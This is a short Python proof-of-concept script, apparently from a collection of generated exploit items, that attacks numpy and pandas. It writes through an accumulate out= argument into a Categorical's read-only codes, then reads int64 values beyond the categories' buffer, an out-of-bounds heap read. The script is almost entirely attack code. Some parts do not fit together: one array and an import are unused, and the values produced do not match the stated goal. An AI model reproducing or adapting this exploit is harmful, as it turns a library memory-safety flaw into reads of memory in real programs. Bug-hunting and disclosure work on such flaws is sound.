# source: numpy 1.24 ufunc accumulate/cumulative out= does not check the WRITEABLE flag (numpy issue: accumulate ignores read-only out, fixed later); pandas Categorical.codes read-only view (pandas/core/arrays/categorical.py codes property); take_nd without bounds check (pandas/_libs/algos_take_helper)
# family: write into a read-only array pandas trusts via a cumulative/accumulate out= (call form: np.bitwise_or.accumulate(src, out=v)), then out-of-bounds read through Categorical codes
# goal: rewrite a Categorical's codes to 100..127 (2 categories) so np.asarray(c) reads int64 words beyond the categories' buffer (heap memory out of bounds)
import numpy as np
import pandas as pd
import functools

c = pd.Categorical([10, 20, 10, 20])
v = c.codes
src = np.array([0, 1, 126, 0], dtype=np.int8)
one = np.array([1, 1, 100, 1], dtype=np.int8)
np.bitwise_or.accumulate(src, out=v)
print("codes after:", c.codes.tolist())
print("values read through the codes:", np.asarray(c).tolist())
